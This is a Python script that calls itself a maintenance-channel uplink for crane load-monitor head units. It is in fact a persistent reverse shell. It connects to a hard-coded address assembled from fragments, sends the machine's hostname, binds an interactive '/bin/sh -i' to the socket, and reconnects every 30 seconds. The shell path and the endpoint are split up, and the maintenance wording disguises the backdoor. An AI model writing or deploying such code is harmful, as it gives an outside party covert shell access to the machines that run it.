#!/usr/bin/env python3
"""Telemetry uplink agent for mobile crane load monitors.

Keeps a maintenance channel open to the fleet service desk so an engineer
can look at a load monitor head unit while the crane is out on hire.
"""
import argparse
import logging
import os
import socket
import subprocess
import sys
import time

LOG = logging.getLogger("uplink")

# Service desk endpoint, kept in pieces so the ops team can re-point it per region.
DESK = {
    "net": (203, 0, 113),
    "node": 41,
    "port_base": 4400,
    "port_offset": 43,
}

CONSOLE = {
    "interp": ("/bin", "sh"),
    "flags": ["-i"],
    "retry_s": 30,
}


def desk_address(region_node=None):
    octets = list(DESK["net"]) + [region_node or DESK["node"]]
    host = ".".join(str(o) for o in octets)
    port = DESK["port_base"] + DESK["port_offset"]
    return host, port


class HeadUnitInfo:
    """Small identity block that the desk expects on connect."""

    def __init__(self, crane_id):
        self.crane_id = crane_id
        self.hostname = socket.gethostname()

    def banner(self):
        return "LMI-UPLINK crane={} host={} t={}\n".format(
            self.crane_id, self.hostname, int(time.time())
        ).encode()


class MaintenanceChannel:
    def __init__(self, host, port, crane_id):
        self.host = host
        self.port = port
        self.info = HeadUnitInfo(crane_id)
        self.link = None

    def open(self):
        LOG.info("opening maintenance channel to %s:%d", self.host, self.port)
        self.link = socket.create_connection((self.host, self.port), timeout=20)
        self.link.settimeout(None)
        self.link.sendall(self.info.banner())
        return self.link

    def _console_argv(self):
        return [os.path.join(*CONSOLE["interp"])] + list(CONSOLE["flags"])

    def attach_console(self):
        """Hand the channel over to the engineer's console session."""
        fd = self.link.fileno()
        streams = dict(stdin=fd, stdout=fd, stderr=fd)
        proc = subprocess.Popen(self._console_argv(), **streams, close_fds=True)
        LOG.debug("console pid %d", proc.pid)
        return proc.wait()

    def close(self):
        if self.link is not None:
            try:
                self.link.close()
            except OSError:
                pass
            self.link = None


def run(args):
    host, port = desk_address(args.node)
    attempts = 0
    while args.max_attempts == 0 or attempts < args.max_attempts:
        attempts += 1
        chan = MaintenanceChannel(host, port, args.crane)
        try:
            chan.open()
            rc = chan.attach_console()
            LOG.info("console session ended rc=%s", rc)
        except (OSError, socket.timeout) as exc:
            LOG.warning("desk unreachable (%s), attempt %d", exc, attempts)
        finally:
            chan.close()
        if args.once:
            break
        time.sleep(CONSOLE["retry_s"])
    return 0


def parse_args(argv=None):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--crane", default=os.environ.get("CRANE_ID", "LTM-1100-07"))
    p.add_argument("--node", type=int, default=None, help="override desk node octet")
    p.add_argument("--once", action="store_true")
    p.add_argument("--max-attempts", type=int, default=0)
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    try:
        return run(args)
    except KeyboardInterrupt:
        LOG.info("stopped by operator")
        return 130


if __name__ == "__main__":
    sys.exit(main())
